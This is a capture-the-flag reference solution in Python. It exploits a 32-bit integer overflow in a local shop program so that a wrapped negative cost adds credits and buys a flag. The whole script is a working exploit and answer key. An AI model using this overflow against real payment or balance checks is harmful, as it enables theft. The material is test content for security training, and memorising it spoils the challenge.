"""Reference solution for pwn-shop-int-overflow: the cost of stickers is
quantity * 10 in a 32-bit int. A positive quantity whose product wraps to a
large negative cost passes the `cost > balance` check and *adds* credits;
then the flag is affordable."""
import re
import subprocess
import sys

PRICE = 10


def wrapped(value: int) -> int:
    value &= 0xFFFFFFFF
    return value - (1 << 32) if value >= 1 << 31 else value


def main() -> int:
    quantity = ((1 << 32) - 2_000_000) // PRICE
    cost = wrapped(quantity * PRICE)
    assert 0 < quantity < 1 << 31 and cost < -1_000_000
    script = f"1\n{quantity}\n2\n3\n".encode()
    out = subprocess.run(["./shop"], input=script, capture_output=True, timeout=10).stdout
    found = re.search(rb"bulwark\{[^}\s]+\}", out)
    if not found:
        print(f"no flag in the output: {out[-500:]!r}", file=sys.stderr)
        return 1
    print(found.group().decode())
    return 0


if __name__ == "__main__":
    sys.exit(main())
